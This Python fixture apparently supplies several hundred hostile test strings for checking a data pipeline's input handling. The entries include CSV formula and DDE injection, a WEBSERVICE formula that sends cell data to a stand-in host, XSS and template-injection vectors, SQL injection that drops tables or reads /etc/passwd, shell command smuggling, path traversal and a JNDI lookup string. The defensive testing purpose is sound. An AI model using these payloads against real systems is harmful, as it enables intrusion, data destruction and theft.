"""More than three hundred texts that somebody could put into a cell to make something happen."""

from __future__ import annotations

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "\t=1", " =1", "=X()", "=1;=2", '"=1"', "＝1+1", "＋1", "－1", "＠A1", "|calc", "%0A=1",
    "=DDE(1)", "+cmd|'x'!A1", "-2+3+cmd|'x'!A1", "@x", "=A1&B1", "=-1", "=+1", "=@x",
    '=WEBSERVICE("http://x/"&A1)', '=IMPORTXML("http://x","//a")', '=IMPORTDATA("http://x")',
    '=IMAGE("http://x")', '=FILTERXML("<a/>","//b")', "=ENCODEURL(A1)", "=RTD(1,2,3)",
    "=CALL(\"x\",\"y\",\"z\")", "=REGISTER.ID(\"x\",\"y\")", "=EXEC(\"calc\")", "=RUN(\"x\")",
    "=INDIRECT(\"A1\")", "={1,2}", "=[x.xlsx]S!A1", "='\\\\host\\[x]S'!A1", "=MSEXCEL|'\\x'!A",
    "+A1", "-A1", "@A1:B2", "=0x1", "=\"a\"&\"b\"", "=TRUE", "=#REF!", "==1", "=-+1", "--1+1x",
    "\r=1", "\n=1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u3000=1", "\t\t@x", " +x", " -x", " @x",
    "=1+1\n=2", "x\n=1", "x,=1", "x;=1", "x\t=1", "'=1", "''=1", "\"=1", "\";=1;\"", "\",=1,\"",
    "%0D=1", "％0A=1", "｜calc", "\x0b=1", "\x0c=1", "=lambda(x,x)(1)", "=LET(x,1,x)",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</table><h1>x", "<svg onload=x>",
    "&lt;b&gt;", "<!-- x", "]]>", "<style>*{}</style>", "javascript:alert(1)", "<a href='x'>",
    '"><b>', "'><b>", "<iframe src=x>", "{{7*7}}", "${7*7}", "<%= 7 %>", "{% x %}", "<b>bold</b>",
    "<math><x>", "<body onload=x>", "<input autofocus>", "\x1b[31mred", "<x y=z>", "<p", ">",
    "<ScRiPt>x</sCrIpT>", "<script/x>", "<script\n>", "<scr<script>ipt>", "</script><script>x",
    "</style><script>x", "</title><script>x", "</textarea><script>x", "--><script>x", "<script",
    "&#60;script&#62;", "&#x3c;b&#x3e;", "&lt", "&amp;lt;", "%3Cscript%3E", "\\u003cscript\\u003e",
    "＜script＞", "\u2028<b>", "<svg><script>x</script>", "<svg/onload=x>", "<svg><use href=x>",
    "<object data=x>", "<embed src=x>", "<link rel=x href=y>", "<meta http-equiv=refresh>",
    "<base href=x>", "<form action=x>", "<button formaction=x>", "<video onerror=x>",
    "<details ontoggle=x>", "<marquee onstart=x>", "<template>", "<noscript>", "<plaintext>",
    "<xmp>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x>", "<!ENTITY x SYSTEM 'y'>",
    "&xxe;", "\" onmouseover=\"x", "' onfocus='x", "` onclick=`x", "data:text/html,<b>",
    "vbscript:x", "url(x)", "expression(x)", "#{7*7}", "[[7*7]]", "*{7*7}", "@{x}", "{{x|safe}}",
    "{{constructor.constructor('x')()}}", "</td></tr></table>", "<td colspan=99>", "\"/>", "'/>",
]  # fmt: skip
SQL = [
    "'; DROP TABLE accounts; --", '"; DROP TABLE accounts; --', "' OR 1=1 --", "1; ATTACH 'x'",
    "x' UNION SELECT 1 --", "COPY accounts TO 'canary'", "$$; DROP TABLE accounts", "/* x */",
    "'||'", "\\'; --", "NULL", "true", "DATE '2020-01-01'", "?", "$1", ":x", "%s", "{0}", "--", ";",
    "' ; INSTALL httpfs; --", "accounts", "known_on", "read_csv('/etc/passwd')", "E'\\x27'",
    "'; DELETE FROM accounts; --", "'; UPDATE accounts SET x=1; --", "'); DROP TABLE scores; --",
    "' OR ''='", "\" OR \"\"=\"", "') OR ('1'='1", "admin'--", "1 OR 1=1", "1/**/OR/**/1",
    "'; COPY (SELECT 1) TO 'canary'; --", "'; EXPORT DATABASE 'canary'; --", "'; LOAD x; --",
    "'; SET memory_limit='1KB'; --", "'; PRAGMA x; --", "'; CALL x(); --", "'; VACUUM; --",
    "'; CREATE TABLE canary (x int); --", "'; pg_sleep(9); --", "' AND pg_sleep(9) --",
    "'; SELECT lo_import('/etc/passwd'); --", "'; DO $$ BEGIN END $$; --", "$x$ '; -- $x$",
    "\u02bc; DROP TABLE accounts; --", "\u2019; DROP TABLE accounts; --", "\\", "\\\\", "\\0",
    "''", "'", "\"", "\"\"", "`", "``", "x'y", "x\"y", "x`y", "(", ")", "((", "*/", "/*", "#",
    "-- x",
    "nan", "inf", "-inf", "NaT", "None", "N/A", "undefined", "false", "0", "-0", "1e999", "0x1F",
    "account_id", "rowid", "given x", "offset of x", "%(x)s", "%d", "%n", "{x}", "{x!r}",
    "{0.__class__}", "{x:>999999999}", "%99999999s", "${x}", "\\x27", "\\u0027", "%27", "&#39;",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "/etc/passwd", "..\\..\\windows", "C:\\x", "~root", "file:///etc/passwd",
    "canary/../canary", "./x", "x/../../y", "/dev/null", "con", "nul", "a\\b", "//host/share",
    "s3://x/y", "http://x/y", "$(touch canary)", "`touch canary`", "; touch canary", "| touch x",
    "*", "?x", "[a]", "x.parquet", ".hidden", "..", ".", "...", "../", "..%2f..%2fx", "%2e%2e/x",
    "....//x", "..;/x", "\\\\host\\share", "\\\\?\\C:\\x", "C:x", "aux.txt", "com1", "lpt1.csv",
    "x:stream", "/proc/self/environ", "/proc/self/fd/0", "/dev/zero", "~/x", "$HOME/x", "%TEMP%\\x",
    "&& touch canary", "|| touch canary", "& touch canary", "> canary", "< /etc/passwd",
    ">> canary", "!x", "!!", "x\ny", "-rf", "--help", "--out=canary", "-o canary", "@file",
    "snapshot_on=2020-01-01", "_run.json", "SHA256SUMS", "scores.parquet", "x.part", "gs://x/y",
    "az://x/y", "ftp://x/y", "jdbc:x", "postgresql://u:p@h/d", "duckdb:///canary.duckdb",
    "sqlite:///canary.db", "git+ssh://x", "ldap://x/y", "${jndi:ldap://x/y}", "zip://x", "a" * 300,
]  # fmt: skip
CONTROL = [
    *(f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160))),
    *(f"a{mark}b" for mark in "\u00ad\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a"),
    *(f"a{mark}b" for mark in "\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"),
    *(f"a{mark}b" for mark in "\ufff9\ufffa\ufffb\ufffd\ufffe\uffff\U000e0001\U000e0041\U0010ffff"),
    "\x1b]0;title\x07", "\x1b[2J", "\x1b[999C", "\x9b31m", "a\x08\x08b", "a\x7fb", "a\r\nb",
]  # fmt: skip
ODD = [
    "ünï", "名前", "\u202ereversed", "\ufeffx", "x" * 5000, "a\nb", "a\rb", "🙂", "0x", "e\u0301",
    "é", "ﬁ", "İ", "ß", "Ω", "\u212a", "𝕏", "👩‍👩‍👧", "z" + "\u0301" * 200, "١٢٣", "१२३", "½", "Ⅷ",
    "\u200fעברית", "العربية", "1,5", "1.5e3", "2024-01-01", "12:00", "١-١",
]  # fmt: skip
HOSTILE = list(dict.fromkeys([*FORMULAS, *MARKUP, *SQL, *PATHS, *CONTROL, *ODD]))
"""Each once; none holds NUL, which Parquet and CSV readers refuse before us."""
